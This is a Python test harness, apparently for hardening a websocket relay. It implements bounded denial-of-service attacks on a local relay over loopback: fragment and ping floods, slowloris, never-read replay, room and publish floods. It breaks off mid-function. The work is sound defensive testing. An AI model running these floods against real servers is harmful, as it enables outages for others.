"""The attacks of issue 11, one small coroutine each, and the raw clients they are made of.

Every attack talks to a live ``relay serve`` over loopback with raw sockets (hostile traffic
cannot go through a well-behaved client library), is bounded in count and in time, and
returns a short text saying what the attacker got: how many of its requests were answered and
how, whether it was refused at the handshake (the HTTP status), closed (the websocket close
code) or dropped. ``benchmarks/abuse.py`` runs them and measures the relay meanwhile.

Source addresses keep the parties apart: the attacker connects from 127.0.0.1, the harness's
own bystander and ``/healthz`` probe from 127.0.0.2 (:data:`MONITOR_IP`), and the traffic an
attack needs set up first (room members, history) from 127.0.0.3 (:data:`SETUP_IP`). So a
per-IP limit holds the attacker, not the yardstick.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import os
import re
import socket
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterable
from dataclasses import dataclass, field
from typing import Any, cast

import orjson

HOST = "127.0.0.1"
ATTACKER_IP = "127.0.0.1"
MONITOR_IP = "127.0.0.2"
SETUP_IP = "127.0.0.3"
OTHER_IP = "127.0.0.4"  # a newcomer: can someone else still connect during the attack?

OP_CONT, OP_TEXT, OP_BINARY, OP_CLOSE, OP_PING = 0, 1, 2, 8, 9
WS_PATH = "/socket.io/?EIO=4&transport=websocket"
POLL_PATH = "/socket.io/?EIO=4&transport=polling"
SMALL_RCVBUF = 4096  # a client that never reads: the kernel buffers next to nothing for it


# -- frames ----------------------------------------------------------------------------------


def frame(opcode: int, payload: bytes = b"", fin: bool = True) -> bytes:
    """A client-to-server websocket frame, masked as RFC 6455 §5.3 requires, any length.

    The mask is applied as one big-integer XOR, so a 1 MB frame costs milliseconds, not the
    second a byte-by-byte loop would.
    """
    key = os.urandom(4)
    n = len(payload)
    head = bytes([(0x80 if fin else 0) | opcode])
    if n < 126:
        head += bytes([0x80 | n])
    elif n < 65536:
        head += bytes([0x80 | 126]) + n.to_bytes(2, "big")
    else:
        head += bytes([0x80 | 127]) + n.to_bytes(8, "big")
    if not n:
        return head + key
    stream = (key * (n // 4 + 1))[:n]
    body = (int.from_bytes(payload, "big") ^ int.from_bytes(stream, "big")).to_bytes(n, "big")
    return head + key + body


def text(payload: str | bytes) -> bytes:
    return frame(OP_TEXT, payload.encode() if isinstance(payload, str) else payload)


def event(name: str, data: Any, ack_id: int | None = None) -> bytes:
    """A Socket.IO EVENT in an Engine.IO MESSAGE, as a text frame: ``42<id>["name",data]``."""
    head = b"42" if ack_id is None else b"42%d" % ack_id
    return text(head + orjson.dumps([name, data]))


_CODE = re.compile(rb'"code":"([a-z_]+)"')


def ack_code(payload: bytes) -> str:
    """``ok``, or the error code of an ack's ``[{"ok": false, "error": {"code": ...}}]``."""
    if payload.startswith(b'[{"ok":true'):
        return "ok"
    m = _CODE.search(payload[:300])
    return m.group(1).decode() if m else "?"


# -- a raw connection ------------------------------------------------------------------------


class Conn(asyncio.Protocol):
    """One TCP connection to the relay: an HTTP request, then (after a 101) a websocket.

    It parses the server's frames only as far as the attack needs: Engine.IO OPEN and PING
    (answered), the Socket.IO CONNECT answer, acks (``43<id>[...]``, to a future or to
    :attr:`on_ack`) and events (to :attr:`on_event`). With :attr:`discard` set it drops what
    it reads unlooked-at, which is all a crowd of room members costs the harness per delivery.
    """

    def __init__(self) -> None:
        loop = asyncio.get_running_loop()
        self.transport: asyncio.Transport | None = None
        self.buf = bytearray()
        self.ws = False
        self.discard = False
        self.status: int | None = None
        self.head: asyncio.Future[int] = loop.create_future()
        self.opened: asyncio.Future[bool] = loop.create_future()
        self.connected: asyncio.Future[bool] = loop.create_future()
        self.closed: asyncio.Future[None] = loop.create_future()
        self.t_open = time.monotonic()
        self.closed_after: float | None = None
        self.close_code: int | None = None
        self.sid: str | None = None
        self.connects = 0  # Socket.IO CONNECTs the server accepted on this websocket
        self.refusal: bytes = b""
        self.acks: dict[int, asyncio.Future[bytes]] = {}
        self.next_id = 0
        self.on_ack: Callable[[int, bytes], None] | None = None
        self.on_event: Callable[[bytes], None] | None = None
        self._writable = asyncio.Event()
        self._writable.set()

    # -- asyncio.Protocol ----------------------------------------------------------------------
    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = cast(asyncio.Transport, transport)  # (uvloop's is no subclass)

    def data_received(self, data: bytes) -> None:
        if self.discard:
            return
        self.buf += data
        if self.status is None:
            end = self.buf.find(b"\r\n\r\n")
            if end < 0:
                return
            line = bytes(self.buf[: self.buf.find(b"\r\n")])
            del self.buf[: end + 4]
            try:
                self.status = int(line.split(b" ", 2)[1])
            except (IndexError, ValueError):
                self.status = -1
            self.ws = self.status == 101
            _done(self.head, self.status)
        if self.ws:
            self._frames()

    def eof_received(self) -> bool | None:
        return None  # close our end too

    def connection_lost(self, exc: Exception | None) -> None:
        self.closed_after = time.monotonic() - self.t_open
        _done(self.head, self.status or 0)
        _done(self.opened, False)
        _done(self.connected, False)
        _done(self.closed, None)
        for fut in self.acks.values():
            _done(fut, b"")
        self.acks.clear()
        self._writable.set()

    def pause_writing(self) -> None:
        self._writable.clear()

    def resume_writing(self) -> None:
        self._writable.set()

    # -- frames from the server ----------------------------------------------------------------
    def _frames(self) -> None:
        buf = self.buf
        while len(buf) >= 2:
            n, pos = buf[1] & 0x7F, 2
            if n == 126:
                if len(buf) < 4:
                    return
                n, pos = int.from_bytes(buf[2:4], "big"), 4
            elif n == 127:
                if len(buf) < 10:
                    return
                n, pos = int.from_bytes(buf[2:10], "big"), 10
            if len(buf) < pos + n:
                return
            op = buf[0] & 0x0F
            payload = bytes(buf[pos : pos + n])
            del buf[: pos + n]
            if op == OP_TEXT:
                self._packet(payload)
            elif op == OP_CLOSE:
                self.close_code = int.from_bytes(payload[:2], "big") if len(payload) >= 2 else 0
            if self.discard:
                buf.clear()
                return

    def _packet(self, p: bytes) -> None:
        kind = p[:1]
        if kind == b"4":
            sio = p[1:2]
            if sio == b"2":
                if self.on_event is not None:
                    self.on_event(p)
            elif sio == b"3":
                i = 2
                while i < len(p) and 48 <= p[i] <= 57:
                    i += 1
                ack_id = int(p[2:i]) if i > 2 else -1
                fut = self.acks.pop(ack_id, None)
                if fut is not None:
                    _done(fut, p[i:])
                elif self.on_ack is not None:
                    self.on_ack(ack_id, p[i:])
            elif sio == b"0":
                with contextlib.suppress(ValueError, TypeError, KeyError):
                    self.sid = orjson.loads(p[2:])["sid"]
                self.connects += 1
                _done(self.connected, True)
            elif sio == b"4":
                self.refusal = p[2:]
                _done(self.connected, False)
        elif kind == b"2":
            self.write(text(b"3" + p[1:]))
        elif kind == b"0":
            _done(self.opened, True)

    # -- to the server -------------------------------------------------------------------------
    @property
    def is_open(self) -> bool:
        return self.transport is not None and not self.closed.done()

    def write(self, data: bytes) -> None:
        if self.transport is not None and not self.transport.is_closing():
            self.transport.write(data)

    async def drain(self) -> None:
        await self._writable.wait()

    def emit(self, name: str, data: Any) -> asyncio.Future[bytes]:
        """Send an event with an ack id; the future gets the ack's payload (b"" if closed)."""
        self.next_id += 1
        fut: asyncio.Future[bytes] = asyncio.get_running_loop().create_future()
        if not self.is_open:
            fut.set_result(b"")
            return fut
        self.acks[self.next_id] = fut
        self.write(event(name, data, self.next_id))
        return fut

    async def sio_connect(self, auth: Any = None, timeout: float = 10.0) -> bool:
        """Socket.IO CONNECT; True once accepted, False if refused or closed."""
        self.write(text(b"40" + (orjson.dumps(auth) if auth is not None else b"")))
        try:
            return await asyncio.wait_for(asyncio.shield(self.connected), timeout)
        except TimeoutError:
            return False

    def never_read(self) -> None:
        """From now on this client reads nothing: the server's replies pile up on its side."""
        if self.transport is not None and not self.transport.is_closing():
            self.transport.pause_reading()

    def abort(self) -> None:
        if self.transport is not None:
            self.transport.abort()

    def state(self) -> str:
        """How the server treated this connection, in a few words."""
        if self.is_open:
            return "still open"
        how = f"closed {self.close_code}" if self.close_code is not None else "dropped"
        return f"{how} after {self.closed_after or 0:.1f}s"


def _done(fut: asyncio.Future[Any], value: Any) -> None:
    if not fut.done():
        fut.set_result(value)


async def dial(
    port: int, proto: asyncio.Protocol, src: str = ATTACKER_IP, rcvbuf: int | None = None
) -> None:
    """Connect ``proto`` from ``src``; ``rcvbuf`` is set before the connect, so the window the
    client advertises stays that small."""
    loop = asyncio.get_running_loop()
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        sock.setblocking(False)
        if rcvbuf is not None:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.bind((src, 0))
        await asyncio.wait_for(loop.sock_connect(sock, (HOST, port)), 10)
        transport, _ = await loop.create_connection(lambda: proto, sock=sock)
        if getattr(proto, "transport", None) is None:  # (uvloop calls connection_made later)
            proto.transport = transport  # type: ignore[attr-defined]
    except BaseException:
        sock.close()
        raise


def upgrade_request(path: str = WS_PATH) -> bytes:
    key = base64.b64encode(os.urandom(16)).decode()
    return (
        f"GET {path} HTTP/1.1\r\nHost: {HOST}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
    ).encode()


async def open_ws(
    port: int, src: str = ATTACKER_IP, rcvbuf: int | None = None, timeout: float = 10.0
) -> Conn:
    """A websocket up to Engine.IO OPEN. A refusal is no exception: ``conn.status`` says it
    (429, 503, or 0 when the server closed without answering)."""
    conn = Conn()
    await dial(port, conn, src, rcvbuf)
    conn.write(upgrade_request())
    try:
        if await asyncio.wait_for(asyncio.shield(conn.head), timeout) == 101:
            await asyncio.wait_for(asyncio.shield(conn.opened), timeout)
    except TimeoutError:
        pass
    except BaseException:  # (cancelled: the caller never gets it to close)
        conn.abort()
        raise
    return conn


# -- plain HTTP ------------------------------------------------------------------------------


async def read_response(reader: asyncio.StreamReader) -> tuple[int, bytes]:
    """One HTTP/1.1 response: status and body (Content-Length, chunked, or up to EOF)."""
    head = await reader.readuntil(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split(" ", 2)[1])
    headers = {k.strip().lower(): v.strip() for k, _, v in (x.partition(":") for x in lines[1:])}
    if "content-length" in headers:
        return status, await reader.readexactly(int(headers["content-length"]))
    if headers.get("transfer-encoding", "").lower() == "chunked":
        body = bytearray()
        while True:
            size = int((await reader.readuntil(b"\r\n")).split(b";")[0], 16)
            body += await reader.readexactly(size + 2)
            del body[-2:]
            if size == 0:
                return status, bytes(body)
    return status, await reader.read()


class Http:
    """One keep-alive HTTP/1.1 connection (the API fills of setup, the polling session)."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer

    @classmethod
    async def open(cls, port: int, src: str = SETUP_IP) -> Http:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(HOST, port, local_addr=(src, 0), limit=1 << 24), 10
        )
        return cls(reader, writer)

    async def request(
        self,
        method: str,
        path: str,
        body: bytes = b"",
        headers: dict[str, str] | None = None,
        timeout: float = 10.0,
    ) -> tuple[int, bytes]:
        extra = "".join(f"{k}: {v}\r\n" for k, v in (headers or {}).items())
        self.writer.write(
            f"{method} {path} HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: {len(body)}\r\n"
            f"{extra}\r\n".encode()
            + body
        )
        return await asyncio.wait_for(read_response(self.reader), timeout)

    def close(self) -> None:
        self.writer.close()


async def http_once(
    port: int,
    method: str,
    path: str,
    src: str,
    body: bytes = b"",
    headers: dict[str, str] | None = None,
    timeout: float = 10.0,
) -> tuple[int, bytes]:
    """One request on a new connection, closed after it."""
    reader, writer = await asyncio.wait_for(
        asyncio.open_connection(HOST, port, local_addr=(src, 0), limit=1 << 24), timeout
    )
    try:
        extra = "".join(f"{k}: {v}\r\n" for k, v in (headers or {}).items())
        writer.write(
            f"{method} {path} HTTP/1.1\r\nHost: {HOST}\r\nConnection: close\r\n"
            f"Content-Length: {len(body)}\r\n{extra}\r\n".encode()
            + body
        )
        return await asyncio.wait_for(read_response(reader), timeout)
    finally:
        writer.close()


async def http_get(port: int, path: str, src: str, timeout: float = 10.0) -> tuple[int, bytes]:
    return await http_once(port, "GET", path, src, timeout=timeout)


# -- what an attack gets to work with --------------------------------------------------------


@dataclass
class Ctx:
    """The relay under attack and the harness's hooks; ``scale`` multiplies every size."""

    port: int
    pid: int
    scale: float
    begin: Callable[[], Awaitable[None]]
    api_key: str | None = None
    secret: str | None = None
    conns: list[Conn] = field(default_factory=list)
    closers: list[Callable[[], None]] = field(default_factory=list)

    def n(self, base: float, low: int = 1) -> int:
        return max(low, round(base * self.scale))

    def track(self, conn: Conn) -> Conn:
        self.conns.append(conn)
        return conn

    async def ws(self, src: str = ATTACKER_IP, rcvbuf: int | None = None) -> Conn:
        return self.track(await open_ws(self.port, src, rcvbuf))

    async def client(
        self, src: str = ATTACKER_IP, rcvbuf: int | None = None, auth: Any = None
    ) -> Conn:
        """A websocket with a Socket.IO connection, or an error saying how it was refused."""
        conn = await self.ws(src, rcvbuf)
        if conn.status != 101 or not await conn.sio_connect(auth):
            raise RuntimeError(f"client refused: HTTP {conn.status} {conn.refusal[:120]!r}")
        return conn

    def api_headers(self) -> dict[str, str]:
        headers = {"Content-Type": "application/json"}
        if self.api_key:
            headers["Authorization"] = f"Bearer {self.api_key}"
        return headers

    async def healthz(self) -> dict[str, Any]:
        status, body = await http_get(self.port, "/healthz", MONITOR_IP)
        return dict(orjson.loads(body)) if status == 200 else {}

    async def connections(self) -> int | None:
        return (await self.healthz()).get("connections")

    def cpu_s(self) -> float:
        return proc_cpu_s(self.pid)

    async def settle(self, timeout: float = 20.0, window: float = 0.3, busy: float = 0.15) -> float:
        """Wait until the relay has worked through what the attack sent, or ``timeout``; return
        the seconds waited.

        Done is: its CPU under ``busy`` of a core over ``window``, and ``/healthz`` answering
        within 0.2 s (CPU alone is fooled when other work on the machine starves the relay).
        """
        t0 = time.monotonic()
        last = self.cpu_s()
        while time.monotonic() - t0 < timeout:
            await asyncio.sleep(window)
            now = self.cpu_s()
            if now - last < busy * window:
                t1 = time.monotonic()
                with contextlib.suppress(OSError, TimeoutError, ValueError):
                    await http_get(self.port, "/healthz", MONITOR_IP, timeout + t0 - t1 + 1)
                if time.monotonic() - t1 < 0.2:
                    break
                now = self.cpu_s()
            last = now
        return time.monotonic() - t0

    def close_all(self) -> None:
        for conn in self.conns:
            conn.abort()
        self.conns.clear()
        for close in self.closers:
            with contextlib.suppress(Exception):
                close()
        self.closers.clear()


def proc_cpu_s(pid: int) -> float:
    """utime + stime of ``pid`` in seconds (``/proc/<pid>/stat``)."""
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def proc_mem_kb(pid: int) -> dict[str, int]:
    """VmRSS and VmHWM of ``pid`` in KiB (``/proc/<pid>/status``)."""
    out: dict[str, int] = {}
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(("VmRSS:", "VmHWM:")):
                out[line[:5]] = int(line.split()[1])
    return out


def counts(codes: Iterable[str]) -> str:
    """``ok 100, rate_limited 900`` (most common first)."""
    return ", ".join(f"{k} {v:,}" for k, v in Counter(codes).most_common()) or "none"


async def poll_until(done: Callable[[], bool], timeout: float, interval: float = 0.02) -> bool:
    """Poll ``done()`` until true (True) or ``timeout`` seconds pass (False)."""
    deadline = time.monotonic() + timeout
    while True:
        if done():
            return True
        if time.monotonic() >= deadline:
            return False
        await asyncio.sleep(interval)


async def gather_limited(n: int, limit: int, make: Callable[[int], Awaitable[Any]]) -> list[Any]:
    """``make(i)`` for i < n, at most ``limit`` at once; exceptions are returned, not raised."""
    sem = asyncio.Semaphore(limit)

    async def one(i: int) -> Any:
        async with sem:
            return await make(i)

    return await asyncio.gather(*(one(i) for i in range(n)), return_exceptions=True)


async def crowd(ctx: Ctx, room: str, n: int) -> list[Conn]:
    """``n`` room members from :data:`SETUP_IP` that, once joined, read and discard all."""

    async def member(_: int) -> Conn:
        conn = await ctx.client(SETUP_IP)
        ack = await asyncio.wait_for(conn.emit("join", {"room": room}), 30)
        if ack_code(ack) != "ok":
            raise RuntimeError(f"member join refused: {ack[:120]!r}")
        conn.discard = True
        return conn

    made = await gather_limited(n, 100, member)
    errors = [m for m in made if isinstance(m, BaseException)]
    if errors:
        raise RuntimeError(f"{len(errors)} of {n} members failed: {errors[0]!r}")
    return [m for m in made if isinstance(m, Conn)]


async def fill_history(ctx: Ctx, room: str, count: int, data: Any) -> None:
    """``count`` messages into ``room`` over the HTTP API, from :data:`SETUP_IP`."""
    body = orjson.dumps({"data": data})
    http = await Http.open(ctx.port, SETUP_IP)
    try:
        for _ in range(count):
            status, answer = await http.request(
                "POST", f"/api/v1/rooms/{room}/events", body, ctx.api_headers()
            )
            if status != 200:
                raise RuntimeError(f"history fill refused: {status} {answer[:200]!r}")
    finally:
        http.close()


async def dropped_or_not(ctx: Ctx, before: int | None) -> str:
    """Did the relay drop the attacker? Its own count of connections says."""
    after = await ctx.connections()
    if before is None or after is None:
        return f"connections {before} -> {after}"
    return "dropped" if after < before else "NOT dropped"


# -- the attacks -----------------------------------------------------------------------------


async def fragments(ctx: Ctx) -> str:
    """One non-final text frame, then N empty continuations, in one write, before any login."""
    n = ctx.n(20_000)
    conn = await ctx.ws()
    burst = frame(OP_TEXT, b"4", fin=False) + frame(OP_CONT, b"", fin=False) * n
    await ctx.begin()
    conn.write(burst)
    took = await ctx.settle(25)
    return f"{n:,} fragments ({len(burst) // 1024} KB): worked {took:.1f}s, {conn.state()}"


async def slow_frame(ctx: Ctx) -> str:
    """A 1 MB text frame (a too-large publish) written 100 bytes at a time.

    The writes come from a thread, ~0.1 ms apart, on a duplicate of the connection's socket:
    paced so that each reaches the relay as a read of its own (from the event loop they would
    bunch up into larger reads), while the loop still reads the ack.
    """
    size = min(ctx.n(1_000_000), 1_040_000)  # under the 1 MiB transport limit
    conn = await ctx.client()
    head = b'421["publish",{"room":"slow","data":"'
    data = frame(OP_TEXT, head + b"x" * (size - len(head) - 3) + b'"}]')
    answer = conn.acks.setdefault(1, asyncio.get_running_loop().create_future())
    conn.next_id = 1
    assert conn.transport is not None
    fd = os.dup(conn.transport.get_extra_info("socket").fileno())
    await ctx.begin()
    t0 = time.monotonic()
    writes = await asyncio.to_thread(_paced_send, fd, data, 100, 0.0001)
    sent_in = time.monotonic() - t0
    try:
        reply = await asyncio.wait_for(answer, 20)
        got = ack_code(reply) if reply else conn.state()
    except TimeoutError:
        got = "no answer in 20 s"
    return f"{size // 1000} KB in {writes:,} writes over {sent_in:.1f}s: answered {got}"


def _paced_send(fd: int, data: bytes, piece: int, gap: float) -> int:
    """Send ``data`` on (a duplicate of) a non-blocking socket, ``piece`` bytes at a time."""
    view, writes = memoryview(data), 0
    with socket.socket(fileno=fd) as sock:
        for i in range(0, len(data), piece):
            chunk = view[i : i + piece]
            while True:
                try:
                    sock.send(chunk)
                    break
                except BlockingIOError:
                    time.sleep(0.001)
            writes += 1
            time.sleep(gap)
    return writes


async def replay_unread(ctx: Ctx) -> str:
    """20 x (join since 0 + leave) on a room of 200 x 60 KB, in one write, never reading."""
    count, joins = ctx.n(200), 20
    await fill_history(ctx, "replay", count, "x" * 60_000)
    conn = await ctx.client(rcvbuf=SMALL_RCVBUF)
    conn.never_read()
    before = await ctx.connections()
    burst = b"".join(
        event("join", {"room": "replay", "since": 0}, 2 * i + 1)
        + event("leave", {"room": "replay"}, 2 * i + 2)
        for i in range(joins)
    )
    await ctx.settle(5)
    await ctx.begin()
    conn.write(burst)
    await ctx.settle(20)
    verdict = await dropped_or_not(ctx, before)
    return f"{joins} replays of {count} x 60 KB in one {len(burst):,}-byte write: {verdict}"


async def presence_unread(ctx: Ctx) -> str:
    """1,000 ``presence`` calls on a room of 2,000 members, by a client that never reads."""
    members, calls = ctx.n(2000), ctx.n(1000)
    await crowd(ctx, "crowd", members)
    conn = await ctx.client(rcvbuf=SMALL_RCVBUF)
    conn.never_read()
    before = await ctx.connections()
    burst = b"".join(event("presence", {"room": "crowd"}, i + 1) for i in range(calls))
    await ctx.settle(10)
    await ctx.begin()
    conn.write(burst)
    await ctx.settle(20)
    verdict = await dropped_or_not(ctx, before)
    return f"{calls:,} presence of {members:,} members, unread: {verdict}"


async def ping_unread(ctx: Ctx) -> str:
    """300 MB of 125-byte websocket PINGs (the most a control frame holds), PONGs never read."""
    total = ctx.n(300 * 1024 * 1024)
    conn = await ctx.client(rcvbuf=SMALL_RCVBUF)
    conn.never_read()
    chunk = frame(OP_PING, b"p" * 125) * 8000  # ~1 MB a write
    before = await ctx.connections()
    await ctx.begin()
    sent, t0 = 0, time.monotonic()
    while sent < total and conn.is_open and time.monotonic() - t0 < 15:
        conn.write(chunk)
        sent += len(chunk)
        await conn.drain()
    took = time.monotonic() - t0
    await ctx.settle(10)
    verdict = await dropped_or_not(ctx, before)
    return f"{sent / 2**20:,.0f} MB of pings in {took:.1f}s: {verdict}"


async def polling_unread(ctx: Ctx) -> str:
    """A long-polling session that never GETs, sent 1,000 x 60 KB ``direct`` messages."""
    n = ctx.n(1000)
    # (each request on a connection of its own: an idle keep-alive one may time out meanwhile)
    status, body = await http_get(ctx.port, POLL_PATH, ATTACKER_IP)
    if status != 200 or not body.startswith(b"0"):
        return f"polling handshake refused: {status} {body[:100]!r}"
    session = f"{POLL_PATH}&sid={orjson.loads(body[1:])['sid']}"
    plain = {"Content-Type": "text/plain;charset=UTF-8"}
    status, body = await http_once(
        ctx.port, "POST", session, ATTACKER_IP, b'40{"user":"victim"}', plain
    )
    if status != 200:
        return f"polling CONNECT refused: {status} {body[:100]!r}"
    sender = await ctx.client()
    data = "x" * 60_000
    await ctx.begin()
    codes: list[str] = []
    for start in range(0, n, 50):
        acks = [sender.emit("direct", {"user": "victim", "data": data}) for _ in range(50)]
        codes += [ack_code(a) for a in await asyncio.gather(*acks)][: n - start]
    await ctx.settle(10)
    try:
        status, body = await http_get(ctx.port, session, ATTACKER_IP, timeout=5)
        left = f"session alive (a GET got {len(body) // 1024:,} KB)" if status == 200 else ""
        left = left or f"session gone (GET: {status})"
    except (TimeoutError, OSError, asyncio.IncompleteReadError) as exc:
        left = f"session gone ({type(exc).__name__})"
    return f"directs {counts(codes)}; {left}"


async def history_unread(ctx: Ctx) -> str:
    """10 ``history?limit=1000`` requests on a room of 1,000 x 60 KB, never read."""
    count, requests = ctx.n(1000), 10
    await fill_history(ctx, "big", count, "x" * 60_000)
    auth = f"Authorization: Bearer {ctx.api_key}\r\n" if ctx.api_key else ""
    request = (
        f"GET /api/v1/rooms/big/history?limit=1000 HTTP/1.1\r\nHost: {HOST}\r\n{auth}\r\n"
    ).encode()
    conns = [ctx.track(Conn()) for _ in range(requests)]
    for conn in conns:
        await dial(ctx.port, conn, ATTACKER_IP, SMALL_RCVBUF)
    await ctx.settle(5)
    await ctx.begin()
    for conn in conns:
        conn.write(request)
        conn.never_read()
    took = await ctx.settle(20)
    still = sum(c.is_open for c in conns)
    return f"{requests} unread pages of {count:,} x 60 KB: worked {took:.1f}s, {still} held open"


async def history_flood(ctx: Ctx) -> str:
    """2,000 messages of 21,000 ``{}`` (63 KB) into 200 rooms, 100 from each of 20 sockets.

    126 MB of JSON: past the 64 MiB that the fixed relay keeps across rooms by default.
    """
    total = ctx.n(2000)
    per_conn = min(100, total)
    rooms = max(1, total // 10)
    body = b"[" + b",".join([b"{}"] * 21_000) + b"]"  # 63,001 bytes of JSON
    socks = [await ctx.client() for _ in range(-(-total // per_conn))]
    await ctx.begin()

    async def flood(k: int, conn: Conn) -> list[str]:
        acks = []
        for i in range(k * per_conn, min(total, (k + 1) * per_conn)):
            conn.next_id += 1
            fut = asyncio.get_running_loop().create_future()
            conn.acks[conn.next_id] = fut
            packet = b'42%d["publish",{"room":"hf-%d","data":%s}]' % (
                conn.next_id,
                i % rooms,
                body,
            )
            conn.write(text(packet))
            acks.append(fut)
        return [ack_code(a) for a in await asyncio.wait_for(asyncio.gather(*acks), 30)]

    codes = [
        c
        for batch in await asyncio.gather(*(flood(k, c) for k, c in enumerate(socks)))
        for c in batch
    ]
    await ctx.settle(10)
    held = (await ctx.healthz()).get("history_bytes")
    kept = f"; history_bytes {held / 2**20:,.0f} MB" if isinstance(held, int) else ""
    return f"{total:,} x 63 KB into {rooms} rooms from {len(socks)} sockets: {counts(codes)}{kept}"


async def rooms_flood(ctx: Ctx) -> str:
    """One socket joining 100,000 distinct rooms as fast as its acks come back."""
    n = ctx.n(100_000)
    conn = await ctx.client()
    codes: Counter[str] = Counter()
    conn.on_ack = lambda _id, payload: codes.update((ack_code(payload),))
    await ctx.begin()
    t0 = time.monotonic()
    sent = 0
    while sent < n and conn.is_open and time.monotonic() - t0 < 20:
        if sent - codes.total() > 5000:
            await asyncio.sleep(0.005)
            continue
        batch = min(1000, n - sent)
        conn.write(
            b"".join(event("join", {"room": f"r{sent + i}"}, sent + i + 1) for i in range(batch))
        )
        sent += batch
        await asyncio.sleep(0)
    await poll_until(lambda: codes.total() >= sent or not conn.is_open, 10)
    took = time.monotonic() - t0
    rooms = (await ctx.healthz()).get("rooms")
    return f"{sent:,} joins in {took:.1f}s: {counts(codes.elements())}; relay rooms {rooms}"


async def publish_flood(ctx: Ctx) -> str:
    """One socket publishing into a 1,000-member room as fast as it can, for 10 s."""
    members, seconds, window = ctx.n(1000), 10.0, 200
    await crowd(ctx, "flood", members)
    conn = await ctx.client()
    codes: Counter[str] = Counter()
    conn.on_ack = lambda _id, payload: codes.update((ack_code(payload),))
    packet = b'["publish",{"room":"flood","data":{"hi":1}}]'
    await ctx.settle(10)
    await ctx.begin()
    t0 = time.monotonic()
    sent = 0
    while time.monotonic() - t0 < seconds and conn.is_open:
        if sent - codes.total() >= window:
            await asyncio.sleep(0.001)
            continue
        k = window - (sent - codes.total())
        conn.write(b"".join(text(b"42%d" % (sent + i + 1) + packet) for i in range(k)))
        sent += k
        await asyncio.sleep(0)
    took = time.monotonic() - t0
    await ctx.settle(10)
    ok = codes["ok"]
    return (
        f"{sent:,} publishes in {took:.0f}s: {counts(codes.elements())};"
        f" ~{ok * members / took:,.0f} deliveries/s"
    )


class Loris(asyncio.Protocol):
    """Half a request's headers, then nothing: when (and how) does the server hang up?"""

    def __init__(self) -> None:
        self.t0 = time.monotonic()
        self.answer = b""
        self.closed_after: float | None = None
        self.transport: asyncio.Transport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = cast(asyncio.Transport, transport)
        self.transport.write(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: lor")

    def data_received(self, data: bytes) -> None:
        if len(self.answer) < 64:
            self.answer += data[:64]

    def connection_lost(self, exc: Exception | None) -> None:
        self.closed_after = time.monotonic() - self.t0

    def status(self) -> str:
        return self.answer.split(b" ", 2)[1].decode() if self.answer.count(b" ") >= 2 else "-"


async def newcomer(ctx: Ctx, src: str) -> str:
    """Can a new client from ``src`` connect (websocket + Socket.IO) right now?"""
    t0 = time.monotonic()
    try:
        conn = await ctx.ws(src)
        ok = conn.status == 101 and await conn.sio_connect(timeout=5)
        conn.abort()
        took = (time.monotonic() - t0) * 1000
        return f"ok {took:.0f}ms" if ok else f"refused {conn.status}"
    except (OSError, TimeoutError) as exc:
        return f"failed ({type(exc).__name__})"


async def slowloris(ctx: Ctx) -> str:
    """2,000 connections holding half-sent headers for 12 s (file limit: 20,000)."""
    n, hold = ctx.n(2000), 12.0
    loop = asyncio.get_running_loop()
    lorises: list[Loris] = []
    await ctx.begin()

    async def one(_: int) -> None:
        loris = Loris()
        await dial(ctx.port, loris, ATTACKER_IP)
        lorises.append(loris)
        ctx.closers.append(lambda: loris.transport.abort() if loris.transport else None)

    made = await gather_limited(n, 200, one)
    failed = sum(isinstance(m, BaseException) for m in made)
    t0 = loop.time()
    await asyncio.sleep(1.0)
    same, other = await newcomer(ctx, ATTACKER_IP), await newcomer(ctx, OTHER_IP)
    left = hold - (loop.time() - t0)
    await poll_until(lambda: all(x.closed_after is not None for x in lorises), left, 0.1)
    held = [x for x in lorises if x.closed_after is None]
    closed = sorted(x.closed_after for x in lorises if x.closed_after is not None)
    statuses = counts(x.status() for x in lorises if x.closed_after is not None)
    when = f" at {closed[0]:.1f}-{closed[-1]:.1f}s ({statuses})" if closed else ""
    return (
        f"{n:,} half requests ({failed} connects failed): {len(closed):,} closed{when},"
        f" {len(held):,} held {hold:.0f}s; newcomer same IP {same}, other IP {other}"
    )


async def ghosts(ctx: Ctx) -> str:
    """Engine.IO CLOSE on an open websocket, CONNECT again, join; 200 times; then hang up."""
    n = ctx.n(200)
    before = await ctx.connections()
    await ctx.begin()

    async def ghost(_: int) -> str:
        conn = await ctx.client()
        conn.write(text(b"1") + text(b"40") + event("join", {"room": "ghosts"}, 1))
        await poll_until(lambda: conn.connects >= 2 or not conn.is_open, 2)
        if conn.connects >= 2:
            return "re-CONNECT answered"
        return "closed by server" if not conn.is_open else "left open"

    outcomes = await gather_limited(n, 50, ghost)
    during = await ctx.connections()
    for conn in ctx.conns:
        conn.abort()
    t0 = time.monotonic()
    left = await ctx.connections()
    while left != before and time.monotonic() - t0 < 5:
        await asyncio.sleep(0.1)
        left = await ctx.connections()
    said = counts(o if isinstance(o, str) else type(o).__name__ for o in outcomes)
    return (
        f"{n} ghosts ({said}); connections {before} -> {during} while open"
        f" -> {left} after all closed (waited {time.monotonic() - t0:.1f}s)"
    )


async def attachments(ctx: Ctx) -> str:
    """A binary event announcing 9,999,999 attachments, then 100 MB of 16 KB binary frames."""
    total = ctx.n(100 * 1024 * 1024)
    conn = await ctx.client()
    chunk = frame(OP_BINARY, b"\0" * 16384) * 64  # ~1 MB a write
    await ctx.begin()
